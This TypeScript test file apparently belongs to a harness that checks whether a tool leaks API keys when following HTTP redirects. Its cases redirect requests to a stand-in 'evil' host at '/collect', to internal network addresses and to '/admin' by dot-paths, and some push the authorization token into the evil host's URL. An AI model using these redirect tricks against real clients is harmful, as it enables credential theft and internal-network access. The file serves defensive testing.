import type { AttackTable, Tool } from "../attack.ts";
import { names } from "../world.ts";

/** The rule's host leads elsewhere; the key stands in a header that `fetch` takes along. */
const leading = (status: number, location: (tool: Tool) => string, method = "GET"): AttackTable[number][1] => {
  return async (tool) => {
    tool.world.api.answer = ({ path }, response) =>
      path.startsWith("/v1") ? response.writeHead(status, { location: location(tool) }).end() : response.end("there");
    const body = method === "GET" ? {} : { body: "{}" };
    await tool.tell(await tool.fetch(tool.api(), { method, headers: { "x-api-key": tool.key }, ...body }));
  };
};

const toEvil = (tool: Tool) => tool.evil("/collect");

export const redirects: AttackTable = [
  ["301 to another host", leading(301, toEvil)],
  ["302 to another host", leading(302, toEvil)],
  ["303 after a POST", leading(303, toEvil, "POST")],
  ["307 with the body", leading(307, toEvil, "POST")],
  ["308 with the body", leading(308, toEvil, "POST")],
  ["to another host without a scheme", leading(302, ({ world }) => `//${names.evil}:${world.evil.port}/`)],
  ["to another host with backslashes", leading(302, ({ world }) => `\\\\${names.evil}:${world.evil.port}/`)],
  ["to another port of the same host", leading(302, ({ world }) => `https://${names.api}:${world.evil.port}/`)],
  ["to the same host without TLS", leading(302, ({ world }) => `http://${names.api}:${world.plain.port}/`)],
  ["to another path of the same host", leading(302, () => "/public")],
  ["to another path of the same host, by dots", leading(307, () => "/v1/../admin", "POST")],
  ["to an address inside the network", leading(302, ({ world }) => `https://${world.internal.address}:${world.internal.port}/`)],
  [
    "to another host with the value in its query",
    async (tool) => {
      tool.world.api.answer = ({ headers }, response) => {
        const value = encodeURIComponent(String(headers.authorization).slice(7));
        response.writeHead(302, { location: `${tool.evil()}?k=${value}` }).end();
      };
      await tool.tell(await tool.ask());
    },
  ],
  [
    "to another host with the value in base64",
    async (tool) => {
      tool.world.api.answer = ({ headers }, response) => {
        const value = Buffer.from(String(headers.authorization)).toString("base64url");
        response.writeHead(302, { location: `${tool.evil()}${value}` }).end();
      };
      await tool.tell(await tool.ask());
    },
  ],
  [
    "by way of the same host",
    async (tool) => {
      tool.world.api.answer = ({ path }, response) =>
        response.writeHead(302, { location: path === "/v1" ? "/v1/next" : tool.evil() }).end();
      await tool.tell(await tool.fetch(tool.api(), { headers: { "x-api-key": tool.key } }));
    },
  ],
];
